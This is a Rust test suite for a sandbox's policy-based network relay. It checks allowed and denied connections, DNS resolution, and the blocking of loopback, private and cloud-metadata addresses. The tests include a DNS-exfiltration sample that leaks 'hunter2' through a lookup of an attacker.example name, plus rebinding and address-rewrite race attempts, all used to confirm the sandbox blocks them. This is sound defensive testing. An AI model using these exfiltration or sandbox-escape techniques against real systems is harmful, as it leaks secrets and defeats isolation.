//! What the policy allows is relayed by the host, and nothing else. The servers are real ones outside of the cell, and
//! they say who reached them.
//!
//! The host's own loopback is never relayed, so that servers stand at another address of this machine. That one is
//! private or reserved almost anywhere, so it is allowed by name *and* as an address where a test is about names.

use super::harness::{Fixture, Ran};
use firsttry::cell::{Namespaces, Resolver, Resolving};
use firsttry::frame::{Attempt, Frame, Policy, Verdict};
use firsttry::lock::host::HostPort;
use firsttry::step::Network;
use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// An address of this machine that is not its loopback.
pub(super) fn own() -> IpAddr {
    // Documentation addresses (RFC 5737): nothing is sent by connect, the kernel only looks for a route.
    let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
    for target in ["198.51.100.1:9", "203.0.113.1:9"] {
        if socket.connect(target).is_ok() {
            return socket.local_addr().unwrap().ip();
        }
    }
    panic!("these tests need an address beside loopback (ip address)")
}

/// A server of the test, with a count of who reached it. Lives as long as the test binary.
pub(super) struct Server {
    pub(super) at: SocketAddr,
    count: Arc<AtomicUsize>,
}

impl Server {
    pub(super) fn tcp(serve: impl Fn(TcpStream) + Send + Sync + 'static) -> Server {
        Server::tcp_at(own(), serve)
    }

    pub(super) fn tcp_at(address: IpAddr, serve: impl Fn(TcpStream) + Send + Sync + 'static) -> Server {
        let listener = TcpListener::bind((address, 0)).unwrap();
        let server = Server { at: listener.local_addr().unwrap(), count: Arc::default() };
        let (counter, serve) = (Arc::clone(&server.count), Arc::new(serve));
        std::thread::spawn(move || {
            for socket in listener.incoming().flatten() {
                counter.fetch_add(1, Ordering::SeqCst);
                let serve = Arc::clone(&serve);
                std::thread::spawn(move || serve(socket));
            }
        });
        server
    }

    pub(super) fn echo() -> Server {
        Server::tcp(echo)
    }

    /// Answers each datagram with itself.
    pub(super) fn udp() -> Server {
        let socket = UdpSocket::bind((own(), 0)).unwrap();
        let server = Server { at: socket.local_addr().unwrap(), count: Arc::default() };
        let counter = Arc::clone(&server.count);
        std::thread::spawn(move || {
            let mut bytes = [0; 65_535];
            while let Ok((n, from)) = socket.recv_from(&mut bytes) {
                counter.fetch_add(1, Ordering::SeqCst);
                let _ = socket.send_to(&bytes[..n], from);
            }
        });
        server
    }

    pub(super) fn count(&self) -> usize {
        self.count.load(Ordering::SeqCst)
    }

    pub(super) fn ip(&self) -> IpAddr {
        self.at.ip()
    }

    pub(super) fn port(&self) -> u16 {
        self.at.port()
    }
}

fn echo(mut socket: TcpStream) {
    let mut bytes = vec![0; 64 * 1024];
    while let Ok(n @ 1..) = socket.read(&mut bytes) {
        if socket.write_all(&bytes[..n]).is_err() {
            return;
        }
    }
}

pub(super) fn allow(fixture: Fixture, hosts: &[String]) -> Fixture {
    let entries = |hosts: &[String]| hosts.iter().map(|host| HostPort::parse(host).unwrap().entry()).collect();
    fixture.with(|walls, manifest| {
        walls.network = Network::Allow(hosts.to_vec());
        manifest.network = Policy { mode: Policy::LISTED, allowed: entries(hosts), quiet: Vec::new() };
    })
}

pub(super) fn open(fixture: Fixture) -> Fixture {
    fixture.with(|walls, manifest| {
        walls.network = Network::Open;
        manifest.network = Policy { mode: Policy::EVERYWHERE, ..Policy::default() };
    })
}

fn quiet(fixture: Fixture, host: &str) -> Fixture {
    fixture.with(|_, manifest| manifest.network.quiet.push(HostPort::parse(host).unwrap().entry()))
}

/// Python in a cell, with what most of these tests need.
pub(super) fn python(script: &str) -> Fixture {
    Fixture::python(&format!(
        "import socket, os, errno, sys, time, threading
def attempt(action):
    try: print(action())
    except socket.gaierror as e: print('no name')
    except OSError as e: print(errno.errorcode.get(e.errno, type(e).__name__))
def ask(host, port, data=b'hello', timeout=20):
    with socket.create_connection((host, port), timeout) as s:
        s.sendall(data); s.shutdown(socket.SHUT_WR)
        got = b''
        while piece := s.recv(65536): got += piece
        return got.decode()
def datagram(host, port, data=b'hello', timeout=5):
    s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(timeout)
    s.sendto(data, (host, port)); got, sender = s.recvfrom(65535); assert sender[:2] == (host, port), sender
    return got.decode()
{script}"
    ))
}

/// A resolver of these names, with what it was asked.
fn names(known: &[(&str, &str)]) -> (Resolving<Namespaces>, Arc<Mutex<Vec<String>>>) {
    let (resolver, asked) = resolver(known);
    (Resolving { cell: Namespaces::default(), resolver }, asked)
}

pub(super) fn resolver(known: &[(&str, &str)]) -> (Resolver, Arc<Mutex<Vec<String>>>) {
    let known: Vec<(String, IpAddr)> = known.iter().map(|(n, a)| (n.to_string(), a.parse().unwrap())).collect();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let list = Arc::clone(&asked);
    let given = move |name: &str| {
        list.lock().unwrap().push(name.to_owned());
        let found: Vec<IpAddr> = known.iter().filter(|(n, _)| n == name).map(|(_, a)| *a).collect();
        if found.is_empty() { Err(ErrorKind::NotFound.into()) } else { Ok(found) }
    };
    (Resolver::Given(Arc::new(given)), asked)
}

fn run(fixture: &Fixture, cell: &Resolving<Namespaces>) -> Ran {
    fixture.run_in_with(cell, |_, _| {})
}

fn attempts(ran: &Ran) -> Vec<&Attempt> {
    ran.frames
        .iter()
        .filter_map(|frame| if let Frame::Attempt { attempt } = frame { Some(attempt) } else { None })
        .collect()
}

pub(super) fn told(ran: &Ran, verdict: Verdict) -> Vec<String> {
    let of = attempts(ran).into_iter().filter(|attempt| attempt.verdict == verdict);
    of.map(|a| format!("{} {} {}:{} {} {}", a.call, a.protocol, a.address, a.port, a.name, a.why).trim().to_owned())
        .collect()
}

#[test]
fn an_allowed_address_is_reached_on_its_port_and_every_other_port_is_a_violation() {
    let (allowed, other) = (Server::echo(), Server::echo());
    let script = format!(
        "attempt(lambda: ask('{0}', {1}))\nattempt(lambda: ask('{0}', {2}))",
        allowed.ip(),
        allowed.port(),
        other.port()
    );
    let ran = allow(python(&script), &[allowed.at.to_string()]).run();
    assert_eq!(ran.passed(), "hello\nENETUNREACH\n");
    assert_eq!((allowed.count(), other.count()), (1, 0));
    assert_eq!(told(&ran, Verdict::Allowed), [format!("connect tcp {}", allowed.at)]);
    assert_eq!(
        told(&ran, Verdict::Denied),
        [format!("connect tcp {}  not allowed", other.at).replace("  not allowed", "")]
    );
    // The control: both are there for whoever may.
    let ran = allow(python(&script), &[allowed.at.to_string(), other.at.to_string()]).run();
    assert_eq!(ran.passed(), "hello\nhello\n");
    assert_eq!((allowed.count(), other.count()), (2, 1));
}

#[test]
fn a_name_is_resolved_by_the_host_and_fetched_by_urllib() {
    let server = Server::tcp(|mut socket| {
        let mut request = [0; 4096];
        let n = socket.read(&mut request).unwrap();
        let line = String::from_utf8_lossy(&request[..n]).lines().next().unwrap_or_default().to_owned();
        let body = format!("you asked: {line}");
        write!(socket, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}", body.len()).unwrap();
    });
    let (cell, asked) = names(&[("service.test", &server.ip().to_string())]);
    let script = format!(
        "import urllib.request\nprint(urllib.request.urlopen('http://service.test:{}/x', timeout=20).read().decode())",
        server.port()
    );
    let hosts = [format!("service.test:{}", server.port()), server.at.to_string()];
    let ran = run(&allow(python(&script), &hosts), &cell);
    assert_eq!(ran.passed(), "you asked: GET /x HTTP/1.1\n");
    assert_eq!(
        told(&ran, Verdict::Allowed),
        ["lookup dns :0 service.test".to_owned(), format!("connect tcp {} service.test", server.at)]
    );
    assert_eq!(told(&ran, Verdict::Denied), [""; 0]);
    assert!(asked.lock().unwrap().iter().all(|name| name == "service.test"));
    // Without the name in the policy nobody is asked, and the same fetch fails.
    asked.lock().unwrap().clear();
    let ran = run(&allow(python(&script), &hosts[1..]), &cell);
    assert_ne!(ran.ended().code, 0);
    assert!(asked.lock().unwrap().is_empty());
    assert_eq!(server.count(), 1);
}

#[test]
fn a_secret_in_a_name_never_leaves_the_cell() {
    let script = "attempt(lambda: socket.gethostbyname('hunter2.attacker.example'))";
    let (cell, asked) = names(&[("hunter2.attacker.example", "93.184.216.34")]);
    let ran = run(&allow(python(script), &["good.example".to_owned()]), &cell);
    assert_eq!(ran.passed(), "no name\n");
    assert_eq!(told(&ran, Verdict::Denied), ["lookup dns :0 hunter2.attacker.example"]);
    assert!(asked.lock().unwrap().is_empty());
    let ran = run(&allow(python(script), &["*.attacker.example".to_owned()]), &cell);
    assert_eq!(ran.passed(), "93.184.216.34\n");
    assert!(!asked.lock().unwrap().is_empty());
}

#[test]
fn a_refusal_that_is_expected_wins_over_a_permission() {
    let server = Server::echo();
    let script = format!("attempt(lambda: ask('{}', {}))", server.ip(), server.port());
    let both = quiet(allow(python(&script), &[server.at.to_string()]), &server.ip().to_string());
    let ran = both.run();
    assert_eq!(ran.passed(), "ENETUNREACH\n");
    assert_eq!((server.count(), told(&ran, Verdict::Quiet).len(), told(&ran, Verdict::Denied).len()), (0, 1, 0));
    assert_eq!(allow(python(&script), &[server.at.to_string()]).run().passed(), "hello\n");
    assert_eq!(server.count(), 1);
    assert_eq!(quiet(open(python(&script)), &server.ip().to_string()).run().passed(), "ENETUNREACH\n");
    assert_eq!(server.count(), 1);
}

#[test]
fn a_name_that_leads_to_a_private_address_is_refused_unless_the_address_is_named() {
    let server = Server::echo();
    let script = format!("attempt(lambda: ask('rebound.test', {}))", server.port());
    for (address, why) in [
        ("127.0.0.1", "loopback address of the host"),
        ("10.1.2.3", "private address"),
        ("169.254.169.254", "metadata address"),
        ("::ffff:10.1.2.3", "private address"),
        ("64:ff9b::a9fe:a9fe", "metadata address"),
    ] {
        let (cell, asked) = names(&[("rebound.test", address)]);
        let ran = run(&allow(python(&script), &["rebound.test".to_owned()]), &cell);
        assert_eq!(ran.passed(), "no name\n", "{address}");
        assert_eq!(told(&ran, Verdict::Denied)[0], format!("lookup dns :0 rebound.test {why}"));
        assert!(!asked.lock().unwrap().is_empty());
    }
    let (cell, _) = names(&[("rebound.test", &server.ip().to_string())]);
    let ran = run(&allow(python(&script), &["rebound.test".to_owned(), server.at.to_string()]), &cell);
    assert_eq!(ran.passed(), "hello\n");
    assert_eq!(server.count(), 1);
}

#[test]
fn an_open_cell_reaches_everything_but_the_host_itself_and_its_credentials() {
    let (outside, inside) = (Server::echo(), Server::tcp_at("127.0.0.1".parse().unwrap(), echo));
    let script = format!(
        "attempt(lambda: ask('{}', {}))
for host in ['127.0.0.1', '127.0.0.2', '::1', '::ffff:127.0.0.1', '0.0.0.0', '169.254.169.254', 'fd00:ec2::254', '64:ff9b::7f00:1', '2002:7f00:1::']:
    attempt(lambda: ask(host, {}))",
        outside.ip(),
        outside.port(),
        inside.port()
    );
    let ran = open(python(&script)).run();
    assert_eq!(
        ran.passed(),
        "hello\nECONNREFUSED\nECONNREFUSED\nECONNREFUSED\nECONNREFUSED\nECONNREFUSED\nENETUNREACH\nENETUNREACH\nENETUNREACH\nENETUNREACH\n"
    );
    assert_eq!((outside.count(), inside.count()), (1, 0));
    let denied = told(&ran, Verdict::Denied);
    assert_eq!(denied.len(), 4, "{denied:?}");
    assert!(denied[0].ends_with("metadata address"), "{denied:?}");
    assert_eq!(told(&ran, Verdict::Allowed), [format!("connect tcp {}", outside.at)]);
    // The control: from outside the very same listener is there.
    assert!(TcpStream::connect(inside.at).is_ok());
}

#[test]
fn what_the_host_is_told_the_step_is_told() {
    let free = TcpListener::bind((own(), 0)).unwrap().local_addr().unwrap();
    let reset = Server::tcp(|socket| rustix::net::sockopt::set_socket_linger(&socket, Some(Duration::ZERO)).unwrap());
    let silent = Server::tcp(|socket| {
        std::thread::sleep(Duration::from_secs(30));
        drop(socket);
    });
    let slow = Server::tcp(|mut socket| {
        for byte in b"slowly" {
            socket.write_all(&[*byte]).unwrap();
            std::thread::sleep(Duration::from_millis(100));
        }
    });
    let half = Server::tcp(|mut socket| {
        // Says all it has to say first, and only then listens.
        socket.write_all(b"bye").unwrap();
        socket.shutdown(std::net::Shutdown::Write).unwrap();
        let mut all = Vec::new();
        let _ = socket.read_to_end(&mut all);
        assert_eq!(all.len(), 1_000_000);
    });
    let script = format!(
        "host = '{}'
attempt(lambda: ask(host, {}))
def reset():
    with socket.create_connection((host, {}), 20) as s:
        return s.recv(10)
attempt(reset)
def silent():
    start = time.monotonic()
    try:
        with socket.create_connection((host, {}), 1) as s: s.recv(10)
    except TimeoutError: return 'timeout' if time.monotonic() - start < 5 else 'late'
attempt(silent)
attempt(lambda: ask(host, {}, b''))
def half():
    with socket.create_connection((host, {}), 20) as s:
        got = b''
        while piece := s.recv(10): got += piece
        s.sendall(b'x' * 1000000)
        return got
attempt(half)",
        own(),
        free.port(),
        reset.port(),
        silent.port(),
        slow.port(),
        half.port()
    );
    let ran = allow(python(&script), &[own().to_string()]).run();
    assert_eq!(ran.passed(), "ECONNREFUSED\nECONNRESET\ntimeout\nslowly\nb'bye'\n");
    assert_eq!(told(&ran, Verdict::Denied), [""; 0]);
    for server in [reset, silent, slow, half] {
        assert_eq!(server.count(), 1);
    }
}

#[test]
fn a_connection_is_an_ordinary_socket() {
    let server = Server::echo();
    let script = format!(
        "import asyncio, select
target = ('{}', {})
s = socket.create_connection(target, 20)
assert s.getpeername() == target, s.getpeername()
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.close()
# Non-blocking, watched before it is connected, as event loops do.
s = socket.socket(); s.setblocking(False)
poll = select.epoll(); code = s.connect_ex(target); poll.register(s, select.EPOLLOUT)
assert code in (0, errno.EINPROGRESS), code
assert poll.poll(10) and s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
# A mapped address, a bound one, and a duplicate of the descriptor.
s = socket.socket(socket.AF_INET6); s.connect(('::ffff:' + target[0], target[1])); s.send(b'm'); assert s.recv(1) == b'm'
s = socket.socket(); s.bind(('127.0.0.1', 0)); d = s.dup(); s.connect(target); d.send(b'd'); assert s.recv(1) == b'd'
s = socket.socket(); print(s.sendto(b'fast', socket.MSG_FASTOPEN, target), s.recv(4))
async def main():
    async def one(n):
        r, w = await asyncio.open_connection(*target)
        w.write(b'%d' % n); await w.drain(); got = await r.read(10); w.close(); return int(got)
    print(sum(await asyncio.gather(*[one(n) for n in range(100)])))
asyncio.run(main())
# The cell's own loopback is its own.
l = socket.create_server(('127.0.0.1', target[1])); c = socket.create_connection(l.getsockname()); c.close(); print('own')",
        server.ip(),
        server.port()
    );
    let ran = allow(python(&script), &[server.at.to_string()]).run();
    assert_eq!(ran.passed(), "4 b'fast'\n4950\nown\n");
    assert_eq!(server.count(), 105);
}

#[test]
fn datagrams_come_back_from_where_they_were_sent_to() {
    let (server, other) = (Server::udp(), Server::udp());
    let script = format!(
        "host, port, other = '{}', {}, {}
print(datagram(host, port), datagram(host, port, b'x' * 60000) == 'x' * 60000, len(datagram(host, port, b'')))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect((host, port))
t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); t.settimeout(5); t.connect((host, port))
for i in range(50):
    s.send(b's%d' % i); t.send(b't%d' % i)
    assert s.recv(10) == b's%d' % i and t.recv(10) == b't%d' % i
print(s.getpeername() == (host, port))
print(s.sendmsg([b'a', b'b'], [], 0, (host, port)), s.recv(10))
attempt(lambda: datagram(host, other))",
        server.ip(),
        server.port(),
        other.port()
    );
    let ran = allow(python(&script), &[server.at.to_string()]).run();
    assert_eq!(ran.passed(), "hello True 0\nTrue\n2 b'ab'\nENETUNREACH\n");
    assert_eq!(other.count(), 0);
    assert_eq!(told(&ran, Verdict::Denied), [format!("sendto udp {}", other.at)]);
    let ran = allow(python(&script), &[server.at.to_string(), other.at.to_string()]).run();
    assert!(ran.passed().ends_with("hello\n"));
    assert_eq!(other.count(), 1);
}

#[test]
fn two_hundred_megabytes_go_each_way_and_nobody_keeps_them() {
    const BYTES: usize = 200 << 20;
    let source = Server::tcp(|mut socket| {
        let block = vec![7; 1 << 20];
        for _ in 0..BYTES >> 20 {
            socket.write_all(&block).unwrap();
        }
    });
    let sink = Server::tcp(|mut socket| {
        let (mut total, mut bytes) = (0, vec![0; 1 << 20]);
        while let Ok(n @ 1..) = socket.read(&mut bytes) {
            total += n;
        }
        socket.write_all(total.to_string().as_bytes()).unwrap();
    });
    let script = format!(
        "host = '{}'
s = socket.create_connection((host, {}), 60); n = 0
# Not read at first: everybody has to wait for us.
time.sleep(1)
while piece := s.recv(1 << 20): n += len(piece)
print(n)
s = socket.create_connection((host, {}), 60)
for _ in range({}): s.sendall(bytes(1 << 20))
s.shutdown(socket.SHUT_WR); print(s.recv(100).decode())",
        source.ip(),
        source.port(),
        sink.port(),
        BYTES >> 20
    );
    let before = peak_bytes();
    let start = Instant::now();
    let fixture = allow(python(&script), &[own().to_string()]).with(|_, m| m.timeout_ms = 120_000);
    let ran = fixture.run();
    assert_eq!(ran.passed(), format!("{BYTES}\n{BYTES}\n"));
    let grown = peak_bytes().saturating_sub(before);
    let took = start.elapsed();
    writeln!(std::io::stderr(), "relayed 2 x 200 MiB in {took:?}, peak grew by {} KiB", grown >> 10).unwrap();
    assert!(grown < 64 << 20, "{grown} bytes more than before");
}

/// The largest resident set that this process has had.
fn peak_bytes() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap();
    line.trim().trim_end_matches(" kB").trim().parse::<u64>().unwrap() << 10
}

#[test]
fn a_thousand_connections_one_after_another_and_many_at_once() {
    let server = Server::echo();
    let script = format!(
        "target = ('{}', {})
for _ in range(1000):
    s = socket.create_connection(target, 20); s.send(b'x'); assert s.recv(1) == b'x'; s.close()
many = []
for n in range(500):
    s = socket.create_connection(target, 20); s.send(b'%d' % n); many.append(s)
print(all(s.recv(10) == b'%d' % n for n, s in enumerate(many)))
ok = []
def one():
    s = socket.create_connection(target, 20); s.send(b'x'); ok.append(s.recv(1))
threads = [threading.Thread(target=one) for _ in range(100)]
[t.start() for t in threads]; [t.join() for t in threads]; print(len(ok))",
        server.ip(),
        server.port()
    );
    let ran = allow(python(&script), &[server.at.to_string()]).with(|_, m| m.timeout_ms = 120_000).run();
    assert_eq!(ran.passed(), "True\n100\n");
    assert_eq!(server.count(), 1600);
}

#[test]
fn when_a_step_ends_its_connections_end_whatever_they_were_doing() {
    let ended = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&ended);
    let server = Server::tcp(move |mut socket| {
        let mut bytes = vec![0; 64 * 1024];
        // Floods, so that the step is in the middle of something.
        while socket.write_all(&bytes).is_ok() {}
        while let Ok(1..) = socket.read(&mut bytes) {}
        counter.fetch_add(1, Ordering::SeqCst);
    });
    let script = format!(
        "many = [socket.create_connection(('{}', {}), 20) for _ in range(20)]\nmany[0].recv(1)\ntime.sleep(60)",
        server.ip(),
        server.port()
    );
    let start = Instant::now();
    let ran = allow(python(&script), &[server.at.to_string()]).with(|_, m| m.timeout_ms = 3_000).run();
    assert!(ran.ended().timed_out);
    assert!(start.elapsed() < Duration::from_secs(3 + 5), "{:?}", start.elapsed());
    assert_eq!(server.count(), 20);
    super::harness::eventually("the server sees them all end", || ended.load(Ordering::SeqCst) == 20);
}

#[test]
fn what_a_step_said_before_it_ended_arrives() {
    let heard = Arc::new(Mutex::new(Vec::new()));
    let list = Arc::clone(&heard);
    let server = Server::tcp(move |mut socket| {
        let mut all = Vec::new();
        let _ = socket.read_to_end(&mut all);
        list.lock().unwrap().push(all.len());
    });
    let script = format!("socket.create_connection(('{}', {}), 20).sendall(b'x' * 100000)", server.ip(), server.port());
    assert_eq!(allow(python(&script), &[server.at.to_string()]).run().passed(), "");
    super::harness::eventually("it arrives whole", || *heard.lock().unwrap() == [100_000]);
}

#[test]
fn names_with_many_addresses_and_names_without_any() {
    let known: Vec<String> = (1..=30).map(|n| format!("93.184.216.{n}")).collect();
    let mut pairs: Vec<(&str, &str)> = known.iter().map(|address| ("many.test", address.as_str())).collect();
    pairs.push(("six.test", "2606:4700::1111"));
    let (cell, _) = names(&pairs);
    let script = "print(len({a[4][0] for a in socket.getaddrinfo('many.test', 80, type=socket.SOCK_STREAM)}))
print([a[4][0] for a in socket.getaddrinfo('six.test', 80, type=socket.SOCK_STREAM)])
attempt(lambda: socket.gethostbyname('gone.test'))";
    let hosts = ["many.test", "six.test", "gone.test"].map(str::to_owned);
    let ran = run(&allow(python(script), &hosts), &cell);
    assert_eq!(ran.passed(), "30\n['2606:4700::1111']\nno name\n");
    assert_eq!(told(&ran, Verdict::Denied), [""; 0]);
    assert_eq!(told(&ran, Verdict::Note), ["lookup dns :0 gone.test does not resolve"]);
}

#[test]
fn ipv6_is_relayed_as_well() {
    // An address of this machine; where it has none, an answer of the host's own network is what comes back.
    let listing = std::fs::read_to_string("/proc/net/if_inet6").unwrap_or_default();
    let address = listing.lines().find_map(|line| {
        let words: Vec<&str> = line.split_ascii_whitespace().collect();
        let octets: Vec<u8> = (0..16).map(|i| u8::from_str_radix(&words[0][2 * i..2 * i + 2], 16).unwrap()).collect();
        (words[3] == "00").then(|| IpAddr::from(<[u8; 16]>::try_from(octets).unwrap()))
    });
    let (target, expected) = match address.map(|address| Server::tcp_at(address, echo)) {
        Some(server) => (server.at, "hello\n"),
        None => ("[2001:db8::1]:80".parse().unwrap(), "ENETUNREACH\n"),
    };
    let script = format!("attempt(lambda: ask('{}', {}))", target.ip(), target.port());
    assert_eq!(allow(python(&script), &[target.to_string()]).run().passed(), expected);
    assert_eq!(allow(python(&script), &["[2001:db8::2]:1".to_owned()]).run().passed(), "ENETUNREACH\n");
}

#[test]
fn the_cell_says_what_is_relayed() {
    let detail = |fixture: Fixture| {
        let ran = fixture.run();
        let wall = ran.finished().observed.iter().find(|wall| wall.wall == "network").unwrap().clone();
        assert!(wall.enforced, "{wall:?}");
        wall.detail
    };
    let hosts = ["example.org:443", "*.example.net", "[2001:db8::1]:80"].map(str::to_owned);
    assert_eq!(
        detail(allow(Fixture::sh("true"), &hosts)),
        "interfaces: lo; relayed by the host: example.org:443, *.example.net, [2001:db8::1]:80"
    );
    assert!(detail(open(Fixture::sh("true"))).starts_with("interfaces: lo; relayed by the host: everything"));
    assert_eq!(detail(Fixture::sh("true")), "interfaces: lo; route outside: false");
}

#[test]
fn an_address_that_is_rewritten_while_it_is_looked_at_leads_nowhere() {
    let (allowed, forbidden) = (Server::udp(), Server::udp());
    let (door, closed) = (Server::echo(), Server::echo());
    let script = format!(
        "import ctypes, struct, mmap, signal
libc = ctypes.CDLL(None, use_errno=True)
host = socket.inet_aton('{}')
def race(kind, good, bad, rounds):
    a, b = (struct.pack('=HH4s8x', 2, socket.htons(port), host) for port in (good, bad))
    page = mmap.mmap(-1, 4096); page[0:16] = a
    # Another process with the same page: it never waits for this one.
    if (child := os.fork()) == 0:
        while True: page[0:16] = b; page[0:16] = a
    at = ctypes.addressof(ctypes.c_char.from_buffer(page)); made = other = 0
    for _ in range(rounds):
        s = socket.socket(socket.AF_INET, kind)
        if libc.connect(s.fileno(), ctypes.c_void_p(at), 16) == 0:
            made += 1; other += s.getpeername()[1] == bad
            try: s.send(b'x')
            except OSError: pass
        s.close()
    os.kill(child, signal.SIGKILL); os.wait(); print(kind.name, rounds, 'made', made, 'rewritten', other)
race(socket.SOCK_DGRAM, {}, {}, 100000)
race(socket.SOCK_STREAM, {}, {}, 2000)",
        allowed.ip(),
        allowed.port(),
        forbidden.port(),
        door.port(),
        closed.port()
    );
    let hosts = [allowed.at.to_string(), door.at.to_string()];
    let ran = allow(python(&script), &hosts).with(|_, m| m.timeout_ms = 900_000).run();
    write!(std::io::stderr(), "{}", ran.passed()).unwrap();
    // UDP sockets are pointed at the other address now and then, and nobody is there.
    let rewritten = ran.output.lines().next().unwrap().rsplit(' ').next().unwrap().parse::<u32>().unwrap();
    assert!(rewritten > 0, "the race was never won, so that it shows nothing");
    assert!(allowed.count() > 0 && door.count() > 0, "the allowed half of the race gets through");
    assert_eq!((forbidden.count(), closed.count()), (0, 0));
}

#[test]
fn a_slow_host_does_not_stop_an_event_loop() {
    // Its queue is full, so that the kernel does not answer the host.
    let full = rustix::net::socket(rustix::net::AddressFamily::INET, rustix::net::SocketType::STREAM, None).unwrap();
    let IpAddr::V4(own) = own() else { panic!("an IPv4 address") };
    rustix::net::bind(&full, &SocketAddr::from((own, 0))).unwrap();
    rustix::net::listen(&full, 0).unwrap();
    let at = SocketAddr::try_from(rustix::net::getsockname(&full).unwrap()).unwrap();
    let _filled: Vec<_> = (0..3).map(|_| TcpStream::connect_timeout(&at, Duration::from_millis(200))).collect();
    let script = format!(
        "target = ('{}', {})
start = time.monotonic()
try: socket.create_connection(target, 1.5); print('connected')
except TimeoutError: print('timeout', time.monotonic() - start < 4, flush=True)
import asyncio
async def main():
    late = asyncio.create_task(asyncio.open_connection(*target))
    ticks = 0
    for _ in range(20): await asyncio.sleep(0.05); ticks += 1
    print(ticks, late.done(), time.monotonic() - start < 6); print('now', flush=True)
    r, w = await late; w.write(b'x'); print('late', await r.read(1))
asyncio.run(main())",
        at.ip(),
        at.port()
    );
    let full = Arc::new(Mutex::new(Some(full)));
    let fixture = allow(python(&script), &[at.to_string()]).with(|_, m| m.timeout_ms = 100_000);
    let mut seen = String::new();
    let ran = fixture.run_with(|frame, _| {
        if let Frame::Output { stream: 1, bytes } = frame {
            seen.push_str(&String::from_utf8_lossy(&bytes.0));
        }
        if seen.contains("now")
            && let Some(full) = full.lock().unwrap().take()
        {
            // From now on it answers.
            std::thread::spawn(move || {
                let listener = TcpListener::from(full);
                for socket in listener.incoming().flatten() {
                    std::thread::spawn(move || echo(socket));
                }
            });
        }
    });
    assert_eq!(ran.passed(), "timeout True\n20 False True\nnow\nlate b'x'\n");
}
